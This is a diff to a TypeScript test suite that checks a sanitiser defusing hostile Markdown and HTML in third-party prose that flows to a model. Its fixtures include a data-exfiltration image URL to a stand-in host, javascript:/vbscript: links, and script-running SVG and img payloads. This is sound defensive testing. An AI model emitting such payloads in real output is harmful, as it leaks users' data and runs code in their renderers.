@@ -1,7 +1,19 @@
+import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { defuse, tangledMark } from '../../../../src/main/hub/platforms/clean-text.ts';
+import { projectRemoteAnswer } from '../../../../src/main/hub/imports/mcp/tool.ts';
+import { smallData } from '../../../../src/main/hub/imports/small-data.ts';
+import {
+  cleanMarkdown,
+  cleanProse,
+  cleanTitle,
+  defuse,
+  tangledMark,
+} from '../../../../src/main/hub/platforms/clean-text.ts';
+import { plainMrkdwn } from '../../../../src/main/hub/platforms/slack/mrkdwn.ts';
+import { isLongRun } from '../../../harness/long-run.ts';
+import { anyText } from '../chat/answer/any-text.ts';
 import { attacks, traps } from '../chat/answer/attacks.ts';
-import { renderers } from '../chat/answer/renderers.ts';
+import { harmInProse } from './harm-in-prose.ts';
 
 const evil = 'https://evil.example/p.png?d=SECRET';
 const mark = '[image: x, from evil.example]';
@@ -46,7 +58,7 @@ const tricks: [how: string, text: string, defused: string][] = [
   ['an image that defines', `![x](${evil}): ${evil}`, `${mark} : ${evil}`],
   ['an image in code', `\`![x](${evil})\``, `\`${mark}\``],
   ['an image whose text holds code', `![a \`]\` b](${evil})`, `! [a \`]\` b] (${evil})`],
-  ['an image around code', `![a \`[\` b](${evil})`, `! [a [\` b](${evil})`.replace('[`', '`[`')],
+  ['an image around code', `![a \`[\` b](${evil})`, `! [a \` [ \` b](${evil})`],
   ['an image that never ends', `![x](https://evil.example/${long})`, `! [x](https://evil.example/${long})`],
   ['the image element', `<img alt="x" src=${evil}>`, mark],
   ['the image element in capitals, over lines', `<IMG\nSRC='${evil}'\nALT='x'/>`, mark],
@@ -74,7 +86,7 @@ const tricks: [how: string, text: string, defused: string][] = [
   [
     'one by its own name',
     `[github.com]\n\n[github.com]: ${evil}`,
-    `[github.com${goes}][github.com]\n\n[github.com${goes}][github.com]: ${evil}`,
+    `[github.com${goes}&#93;[github.com]\n\n[github.com${goes}&#93;[github.com&#93;: ${evil}`,
   ],
   ['one in HTML', `<a class=x href="${evil}">github.com</a>`, `[github.com${goes}](<${evil}>)`],
   ['one in HTML without an end', `<a href='${evil}'>github.com`, `[github.com${goes}](<${evil}>)`],
@@ -153,31 +165,81 @@ const harmless: [what: string, text: string][] = [
   ['times and ratios', '12:30:45, 3:1, a:b, key: value, http: off'],
 ];
 
-const inert =
-  /^(?:definition|linkReference|footnote.*|html|comment|code class|details(?: open)?|summary|div|picture|video|audio|b|kbd|a title|p style)$/;
-/** What a renderer would load or run: any element but those that do nothing without what was taken from them. */
-function harmIn(text: string): string[] {
-  return Object.entries(renderers).flatMap(([name, render]) => {
-    const { links, active } = render(text);
-    const loaded = active.filter((one) => !inert.test(one));
-    const run = links.filter((link) => /^(?:javascript|vbscript|data|file|blob):/i.test(link));
-    return [...loaded, ...run].map((harm) => `${name}: ${harm}`);
-  });
-}
+/** By which prose of others comes to a model. */
+const doors: Record<string, (text: string) => string> = {
+  'a body in Markdown': (text) => cleanMarkdown(text, 20_000),
+  'a message of a commit': (text) => cleanProse(text, 20_000),
+  'a title': (text) => cleanTitle(text, 20_000),
+  'a message of Slack': (text) => plainMrkdwn(text, 20_000, { person: () => undefined, channel: () => undefined }),
+  'an imported MCP server': (text) => projectRemoteAnswer({ content: [{ type: 'text', text }] }, 'x').text,
+  'data of an imported API': (text) => String((smallData({ text }, 30_000).data as { text: string }).text),
+};
 
 describe('prose of others', () => {
   it.each(tricks)('is defused of %s', (_, text, defused) => {
     expect(defuse(text)).toBe(defused);
-    expect(harmIn(defuse(text))).toEqual([]);
+    expect(harmInProse(defuse(text))).toEqual([]);
   });
 
   it.each(tricks)('is the same when it is defused of %s again', (_, __, defused) => {
-    expect(harmIn(defuse(defused))).toEqual([]);
+    expect(harmInProse(defuse(defused))).toEqual([]);
+  });
+
+  it.each([
+    ['a link that ends otherwise than it seems', `[a](x ![y](${evil}))`],
+    ['an element in a target', '[x](<a<b>[click](javascript:alert(1)))'],
+    ['an image in a target that never ends', `[a](x "![y](${evil})`],
+    ['an image in a title', `[a](<x> '![y](${evil}) ')`],
+    ['an image behind a target with a blank', `[a](b c) ![y](${evil} (t) u) [a](x ![y][z] )\n\n[z]: ${evil}`],
+    ['a script behind a label with code', '[a `](x) `](javascript:alert(1))'],
+    ['a script behind a nested name', '[a [b](c)][d]\n\n[d]: javascript:alert(1)'],
+    ['a script in angle brackets with a blank', '[x](< javascript:alert(1)>) [x](<java\nscript:alert(1)>)'],
+    ['a script by a name over two lines', '[x][a\nb]\n\n[a b]:\n  <javascript:alert(1)>'],
+    ['a script by a name with brackets', '[x][a\\]b]\n\n[a\\]b]: javascript:alert(1)'],
+    ['a script by a name in a list in a quotation', '[x][a]\n\n> 1. - [a]: vbscript:alert(1)'],
+    ['a program in angle brackets', 'Press <cursor://x/install?name=y> or <vscode:extension/x>'],
+    ['a mailbox of another protocol', 'xmpp:ada@evil.example/x and ftp://evil.example'],
+    ['an element in the text of a link', `[a <img src=x:y](${evil})`],
+    ['an element cut by a title', `[a](b "<img src='${evil}")`],
+    ['an element with a slash for a blank', '<x/onclick=alert(1)> <svg/onload=alert(1)//'],
+    [
+      'an element in a processing instruction',
+      '<?x <img src=y>?> <![CDATA[<script>alert(1)</script>]]> <!x <img src=y>>',
+    ],
+    ['an image in a table', `| a | b |\n|---|---|\n| \`x | ![y](z "\`|") |`],
+    ['an image in a footnote', `[^a]\n\n[^a]: ![y](x ![y](${evil}))`],
+    ['a formula that links', '$\\href{javascript:alert(1)}{x}$ [a](b$) ![$](c)'],
+    ['a drawing behind a class', '``` {.mermaid}\nA\n```\n~~~ \tSVG\n<svg onload=alert(1)>\n~~~'],
+  ])('loads, runs and links nothing that it does not say: %s', (_, text) => {
+    for (const [door, clean] of Object.entries(doors)) {
+      const shown = clean(text);
+      expect(harmInProse(shown), `${door}: ${shown}`).toEqual([]);
+    }
+  });
+
+  it.each(Object.keys(doors))(
+    'renders to nothing but text, pages of the web and pages beside it, whatever it is: %s',
+    (door) => {
+      const numRuns = isLongRun ? 40_000 : 250;
+      const property = fc.property(anyText, (text) => {
+        const shown = doors[door]?.(text) ?? '';
+        expect(harmInProse(shown), shown).toEqual([]);
+      });
+      void fc.assert(property, isLongRun ? { numRuns } : { numRuns, seed: 1 });
+    },
+    30 * 60_000,
+  );
+
+  it('is still read where it was written again', () => {
+    const text = `See [the docs](https://docs.example.com/a?b=c), \`x[i](y)\` and <!DOCTYPE html>.\n\n\`\`\`ts\nconst a: Map<string, T[]> = b[0](c);\n\`\`\``;
+    expect(defuse(text)).toBe(
+      'See [the docs](https://docs.example.com/a?b=c), `x[i]`(`y)` and &lt;!DOCTYPE html>.\n\n```ts\nconst a: Map<string, T[]> = b[0](c);\n```',
+    );
   });
 
   it.each(Object.entries({ ...attacks, ...traps }))('loads and runs nothing in any renderer: %s', (_, text) => {
     const defused = defuse(text.replaceAll('\u200b', ''));
-    expect(harmIn(defused), defused).toEqual([]);
+    expect(harmInProse(defused), defused).toEqual([]);
   });
 
   it.each([
@@ -192,7 +254,7 @@ describe('prose of others', () => {
     // Also for a renderer to which the fence is none.
     const bare = lines.slice(0, -1).join('\n');
     expect(bare).not.toMatch(/!\[|\][([:]|<[a-z/!?]/i);
-    expect(harmIn(bare.replaceAll('['.repeat(2_000), '').slice(-5_000))).toEqual([]);
+    expect(harmInProse(bare.replaceAll('['.repeat(2_000), '').slice(-5_000))).toEqual([]);
   });
 
   it.each(harmless)('keeps %s', (_, text) => {
